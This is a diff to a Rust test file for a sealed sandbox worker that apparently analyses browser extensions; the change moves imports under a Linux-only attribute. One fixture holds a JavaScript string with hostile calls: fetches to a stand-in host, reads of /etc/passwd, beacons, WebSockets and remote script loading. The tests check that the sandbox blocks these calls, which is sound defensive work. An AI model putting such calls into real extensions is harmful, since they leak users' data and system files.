@@ -1,10 +1,7 @@
 //! The sealed worker: what it answers, and what no script gets out of it.
 
-use std::collections::BTreeMap;
-use std::process::{Command, Stdio};
 use std::time::{Duration, Instant};
 
-use crxhound::sandbox::protocol::{Answer, Play, PlayScene, PlayScript, Request};
 use crxhound::sandbox::{Budget, Worker};
 use crxhound::script::evaluate::{DecoderJob, Evaluate};
 
@@ -160,7 +157,11 @@ fn every_lock_of_linux_is_tried() {
 }
 
 /// An extension that sends by every road, reads its own files and others, and loads more code.
-fn everything_that_leaves() -> Request {
+#[cfg(target_os = "linux")]
+fn everything_that_leaves() -> crxhound::sandbox::protocol::Request {
+    use std::collections::BTreeMap;
+
+    use crxhound::sandbox::protocol::{Play, PlayScene, PlayScript, Request};
     let background = "fetch('https://a.invalid/'); fetch('/etc/passwd'); fetch('file:///etc/passwd'); new WebSocket('wss://a.invalid');\
         navigator.sendBeacon('https://a.invalid', 'x'); importScripts('https://a.invalid/x.js', 'more.js'); import('./more.js');\
         const x = new XMLHttpRequest(); x.open('GET', 'https://a.invalid'); x.send(); new Worker('https://a.invalid/w.js');\
@@ -200,6 +201,9 @@ fn everything_that_leaves() -> Request {
 #[cfg(target_os = "linux")]
 fn a_trace_of_the_child_shows_no_socket_and_no_file() {
     use std::io::Write;
+    use std::process::{Command, Stdio};
+
+    use crxhound::sandbox::protocol::Answer;
     if Command::new("strace").arg("-V").stdout(Stdio::null()).stderr(Stdio::null()).status().is_err() {
         assert!(std::env::var_os("CI").is_none(), "strace is needed for this test");
         let _ = writeln!(std::io::stderr(), "SKIPPED: strace is not installed, the seal of the worker is not traced");
